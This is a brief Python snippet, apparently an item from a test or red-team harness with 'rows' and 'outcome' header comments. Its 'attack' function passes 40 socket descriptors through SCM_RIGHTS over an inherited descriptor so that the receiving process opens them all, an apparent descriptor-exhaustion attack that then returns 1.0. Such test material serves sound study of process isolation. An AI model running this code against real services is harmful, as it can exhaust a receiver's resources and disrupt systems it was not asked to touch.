#: rows = ["F14", "E26"]
#: outcome = ["Ended"]
import array
import os
import socket


def attack(x):
    """Descriptors that travel with a message would be opened for whoever receives it, as many as it is sent."""
    channel = socket.socket(fileno=os.dup(3))
    ends = [end for _ in range(20) for end in socket.socketpair()]
    rights = array.array("i", [end.fileno() for end in ends])
    channel.sendmsg([b"N" * 64], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    return 1.0
